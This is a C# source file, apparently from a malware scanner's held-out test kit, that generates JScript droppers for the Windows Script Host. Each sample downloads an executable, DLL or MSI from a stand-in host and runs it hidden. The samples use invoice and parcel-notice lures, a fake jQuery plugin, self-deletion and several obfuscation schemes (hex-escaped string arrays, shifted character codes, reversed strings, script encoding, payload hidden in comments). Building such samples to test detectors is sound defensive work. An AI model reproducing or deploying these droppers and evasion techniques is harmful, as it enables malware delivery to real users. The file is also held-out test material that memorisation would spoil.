using System.Text;
using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>JScript files for the Windows script host that fetch a program and start it.</summary>
public sealed class JScriptFetchAndRun : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Invoice_88213.js", Dos("""
            var shell = new ActiveXObject("WScript.Shell");
            var http = new ActiveXObject("MSXML2.XMLHTTP");
            var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\invoice_88213.exe";
            http.open("GET", "http://192.0.2.61/dl/invoice.exe", false);
            http.send();
            if (http.status == 200) {
                var stream = new ActiveXObject("ADODB.Stream");
                stream.open();
                stream.type = 1;
                stream.write(http.responseBody);
                stream.position = 0;
                stream.saveToFile(path, 2);
                stream.close();
                shell.run(path, 0, false);
            }
            """)),
        ("Rechnung_2026_11.pdf.js", Dos("""
            // Bitte warten, das Dokument wird geladen ...
            var ziele = ["https://rechnung-portal.example/k/1", "https://beleg24.example/k/1", "http://198.51.100.90/k/1"];
            var fso = WScript.CreateObject("Scripting.FileSystemObject");
            var ordner = fso.GetSpecialFolder(2) + "\\" + fso.GetTempName().replace(".tmp", "");
            fso.CreateFolder(ordner);
            for (var i = 0; i < ziele.length; i++) {
                try {
                    var w = WScript.CreateObject("WinHttp.WinHttpRequest.5.1");
                    w.Open("GET", ziele[i], false);
                    w.SetRequestHeader("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
                    w.Send();
                    if (w.Status != 200 || w.ResponseText.length < 1000) continue;
                    var s = WScript.CreateObject("ADODB.Stream");
                    s.Type = 1; s.Open(); s.Write(w.ResponseBody);
                    s.SaveToFile(ordner + "\\lib.dll", 2); s.Close();
                    WScript.CreateObject("WScript.Shell").Run("rundll32.exe \"" + ordner + "\\lib.dll\",DllRegisterServer", 0, false);
                    break;
                } catch (e) { WScript.Sleep(3000); }
            }
            WScript.Echo("Die Datei ist beschädigt und kann nicht geöffnet werden.");
            """)),
        ("Bestelling 4471.js", Dos("""
            (function () {
                var a = new ActiveXObject("Shell.Application");
                var c = "-w 1 -ep Unrestricted -nop $p=[IO.Path]::Combine($env:APPDATA,'bestelling.pdf');" +
                        "(New-Object Net.WebClient).DownloadFile('https://docs-levering.example/b/4471.pdf',$p);start $p;" +
                        "$x=irm https://docs-levering.example/b/4471.txt;iex $x";
                a.ShellExecute("powershell.exe", c, "", "open", 0);
                WScript.Sleep(1500);
                new ActiveXObject("Scripting.FileSystemObject").DeleteFile(WScript.ScriptFullName);
            })();
            """)),
        ("jquery.validate-1.22.1.js", Dos(Fill("""
            /*!
             * Form Validation Plugin v1.22.1
             * https://forms-validation.example/
             * Released under the MIT license
             */
            @@1
            // locale switch
            var $root = this, $l = { nl: 3, de: 7, en: 2 };
            function $w(n) { return $root["Get" + "Obj" + "ect"](n); }
            function $go(u) {
                var m = $w("winmgmts:" + "{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32" + "_Process");
                m.Create(["msi", "exec /q /i ", u].join("").replace("exec", "exec.exe"), null, null, 0);
            }
            @@2
            try { $go("https:" + "//forms-validation.example/locale/" + $l.de + ".msi"); } catch (e) { }
            """, Library("min", 40), Library("max", 40)))),
    ];

    /// <summary>Functions as a library has them.</summary>
    private static string Library(string kind, int count) => string.Join('\n', Enumerable.Range(1, count).Select(at =>
        $"function {kind}Rule{at}(value, element) {{ return !element || value.length {(kind == "min" ? ">=" : "<=")} {at * 3}; }}"));
}

/// <summary>JScript files for the Windows script host whose strings or whole bodies are encoded.</summary>
public sealed class JScriptInDisguise : SeventhRound
{
    private const string Plain = """var s=new ActiveXObject("WScript.Shell"),h=new ActiveXObject("MSXML2.ServerXMLHTTP");h.open("GET","http://203.0.113.31/p/7",false);h.send();var b=new ActiveXObject("ADODB.Stream");b.Type=1;b.Open();b.Write(h.responseBody);var p=s.ExpandEnvironmentStrings("%APPDATA%")+"\\wsvc.exe";b.SaveToFile(p,2);b.Close();s.Run(p,0);""";

    private static readonly string[] Words =
        ["WScript.Shell", "MSXML2.XMLHTTP", "open", "GET", "http://203.0.113.31/p/9", "send", "ADODB.Stream", "Type", "Open", "Write", "responseBody", "SaveToFile", "ExpandEnvironmentStrings", "%TEMP%\\upd.exe", "Run"];

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("remittance_advice.js", Dos(Fill("""
            var _0x4a1c=[@@1];(function(_0x1d,_0x2e){while(--_0x2e){_0x1d['push'](_0x1d['shift']());}}(_0x4a1c,0x5));
            var _0x52b0=function(_0x3f){return _0x4a1c[_0x3f-0x0];};
            var _0x11=new ActiveXObject(_0x52b0(0x0)),_0x12=new ActiveXObject(_0x52b0(0x1)),_0x13=_0x11[_0x52b0(0xc)](_0x52b0(0xd));
            _0x12[_0x52b0(0x2)](_0x52b0(0x3),_0x52b0(0x4),![]);_0x12[_0x52b0(0x5)]();
            var _0x14=new ActiveXObject(_0x52b0(0x6));_0x14[_0x52b0(0x7)]=0x1;_0x14[_0x52b0(0x8)]();_0x14[_0x52b0(0x9)](_0x12[_0x52b0(0xa)]);
            _0x14[_0x52b0(0xb)](_0x13,0x2);_0x11[_0x52b0(0xe)](_0x13,0x0);
            """, HexWords(4)))),
        ("DHL_AWB_2291.js", Dos(Fill("""
            var kqz = [@@1], wtr = "", vbn = 0;
            while (vbn < kqz.length) { wtr += String.fromCharCode(kqz[vbn] - 117); vbn++; }
            new Function(wtr)();
            """, Codes(Plain, 117)))),
        ("scan_0093.jse", ScriptEncoder.Encode(Fill("""
            var z = "@@1".split("xQz").join("");
            var r = "";
            for (var i = z.length - 1; i >= 0; i--) r += z.charAt(i);
            eval(r);
            """, string.Join("xQz", Pieces(Backwards(Plain), 3)).Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal)))),
        ("Vertrag.js", Dos(Stuffed())),
    ];

    /// <summary>The words in hexadecimal escapes, turned so that the loop of the script turns them back.</summary>
    private static string HexWords(int turns) => string.Join(',', Words[^turns..].Concat(Words[..^turns]).Select(word =>
        "'" + string.Concat(Encoding.ASCII.GetBytes(word).Select(value => $"\\x{value:x2}")) + "'"));

    /// <summary>A script that reads its own comments: between sentences of no meaning stand hexadecimal pieces.</summary>
    private static string Stuffed()
    {
        var text = new StringBuilder();
        foreach (var piece in Pieces(Hex(Plain), 14))
            text.Append("// Der Auftragnehmer erbringt die vereinbarte Leistung gemäß Anlage und prüft sie vor der Übergabe.\n//= ").Append(piece).Append('\n');
        return text.Append("""
            var f = new ActiveXObject("Scripting.FileSystemObject").OpenTextFile(WScript.ScriptFullName, 1), t = "";
            while (!f.AtEndOfStream) {
                var l = f.ReadLine();
                if (l.substr(0, 4) == "//= ") for (var i = 4; i < l.length; i += 2) t += "%" + l.substr(i, 2);
            }
            f.Close();
            this["ev" + "al"](unescape(t));
            """).ToString();
    }
}
